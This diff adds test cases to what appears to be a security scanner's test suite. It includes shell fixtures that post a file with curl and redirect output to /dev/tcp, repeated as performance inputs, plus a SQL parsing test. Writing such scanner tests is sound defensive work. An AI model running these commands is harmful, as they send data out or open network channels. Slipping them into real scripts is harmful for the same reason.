@@ -26,6 +26,8 @@ SLOW = [
     (".github/workflows/a.yml", "run: print" + " print" * (LENGTH // 6) + " ${{ secrets.A }}"),
     ("a.yml", "\n" * LENGTH),
     ("sudoers", "Defaults" + " " * LENGTH),
+    ("a.sh", "curl -d @$x\n" * 20_000),
+    ("a.sh", "exec >/dev/tcp/a/1\n" * 20_000),
 ]
 
 
@@ -87,3 +89,7 @@ def test_ordinary_cells_and_rows_are_read_in_full() -> None:
     notebook = json.dumps({"cells": [{"cell_type": "code", "source": source}, {"cell_type": "markdown"}]})
     assert review_structure("a.ipynb", notebook) == []
     assert review_structure("a.sql", f"INSERT INTO notes VALUES ('{'word ' * 900}');") == []
+
+
+def test_a_statement_that_begins_with_a_text_is_read() -> None:
+    assert review_structure("a.sql", "'word';\nSELECT 1;\n") == []
